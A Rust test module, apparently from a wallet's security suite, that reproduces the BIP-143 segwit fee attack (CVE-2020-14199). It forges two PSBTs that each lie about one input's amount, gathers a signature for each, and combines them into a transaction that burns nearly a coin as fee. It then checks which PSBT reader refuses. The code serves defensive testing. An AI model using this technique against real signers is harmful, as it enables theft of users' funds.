//! The fee attack on BIP-143 (S2): two requests, two lies about amounts, one fee.
//!
//! A signature of segwit v0 covers the amount of its own input alone. Whoever prepares transactions for a signer asks
//! twice for the same one: first input 0 is told truly and input 1 small, then the other way round. Each time the fee
//! looks like a thousand satoshi. One good signature of each request make a transaction that pays nearly a whole
//! coin to whoever mines it (CVE-2020-14199 of 2020).
//!
//! The twin takes `WITNESS_UTXO` for the amount, as the format lets it.

use alloy_primitives::U256;
use bitcoin::Psbt;
use keystead_base::Coded as _;
use keystead_bitcoin::Spend;

use crate::Loot;
use crate::purse::{Purse, Secrets, WPKH, consensus_takes, pay, payee};

/// How a signer reads a PSBT: what it believes the fee to be, in satoshi.
pub type Reader = fn(&Purse, &Psbt) -> Result<u64, String>;

/// Plays it.
///
/// # Panics
///
/// When the network would not take what was signed.
pub fn attack(reader: Reader) -> Loot {
    let (purse, secrets) = (Purse::of_seed(7), Secrets::of_seed(7));
    let coins = || vec![purse.coin(WPKH, COIN, 1), purse.coin(WPKH, COIN, 2)];
    let honest = Psbt::deserialize(&purse.psbt(coins(), vec![pay(PAID, payee())])).expect("a PSBT");
    let mut transaction = honest.unsigned_tx.clone();
    for input in 0..2 {
        let lie = lying_about(&honest, 1 - input);
        match reader(&purse, &lie) {
            Ok(fee) => assert_eq!(fee, SAID, "it looks like any other"),
            Err(by) => return Loot::refused(by),
        }
        transaction.input[input].witness = secrets.sign_as_said(&lie, input);
    }
    let spent: Vec<_> = coins().iter().map(|it| it.previous.output[0].clone()).collect();
    assert!(consensus_takes(&transaction, &spent), "both signatures are good");
    Loot::stolen(U256::from(2 * COIN - PAID - SAID), "sat of fee that nobody saw")
}

/// The product's reading.
///
/// # Errors
///
/// The code of the refusal.
pub fn proven(purse: &Purse, psbt: &Psbt) -> Result<u64, String> {
    let spend = Spend::read(&purse.recorded, &psbt.serialize());
    spend.map(|it| it.view().fee_sat()).map_err(|error| error.code().to_owned())
}

/// The twin: what an input has is what `WITNESS_UTXO` says.
///
/// # Errors
///
/// None.
pub fn believed(_: &Purse, psbt: &Psbt) -> Result<u64, String> {
    let said = psbt.inputs.iter().filter_map(|it| Some(it.witness_utxo.as_ref()?.value.to_sat()));
    let paid = psbt.unsigned_tx.output.iter().map(|it| it.value.to_sat());
    Ok(said.sum::<u64>().saturating_sub(paid.sum()))
}

fn lying_about(honest: &Psbt, input: usize) -> Psbt {
    let mut lie = honest.clone();
    for it in &mut lie.inputs {
        it.non_witness_utxo = None;
    }
    if let Some(utxo) = lie.inputs[input].witness_utxo.as_mut() {
        utxo.value = bitcoin::Amount::from_sat(PAID + SAID - COIN);
    }
    lie
}

const COIN: u64 = 100_000_000;
const PAID: u64 = 100_009_000;
const SAID: u64 = 1_000;
